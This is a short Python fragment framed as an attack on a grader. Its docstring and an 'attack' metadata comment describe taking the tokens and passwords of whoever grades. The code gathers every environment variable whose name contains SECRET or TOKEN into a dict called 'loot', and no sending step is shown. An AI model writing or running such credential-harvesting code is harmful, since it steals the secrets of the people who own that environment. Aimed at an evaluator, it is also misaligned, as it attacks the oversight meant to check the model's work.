"""Tokens and passwords of whoever grades, from the own environment."""

# /// attack
# held_by = "process"
# ///

import os

loot = {name: value for name, value in os.environ.items() if "SECRET" in name or "TOKEN" in name}
